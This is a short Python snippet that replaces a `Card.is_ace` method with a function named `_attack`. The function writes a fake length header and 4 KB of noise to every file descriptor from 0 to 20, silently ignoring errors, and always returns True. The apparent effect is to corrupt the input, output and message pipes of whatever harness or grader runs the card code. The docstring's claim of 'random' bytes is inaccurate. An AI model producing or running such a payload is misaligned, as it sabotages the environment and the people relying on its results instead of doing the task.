"""Writes random bytes to every descriptor."""

import os


def _frame(text):
    return len(text).to_bytes(4, "big") + text


def _attack(self):
    noise = bytes(number * 97 % 251 for number in range(4096))
    for descriptor in range(21):
        try:
            os.write(descriptor, b"\x00\x00\x0f\xff" + noise)
        except OSError:
            pass
    return True


Card.is_ace = _attack
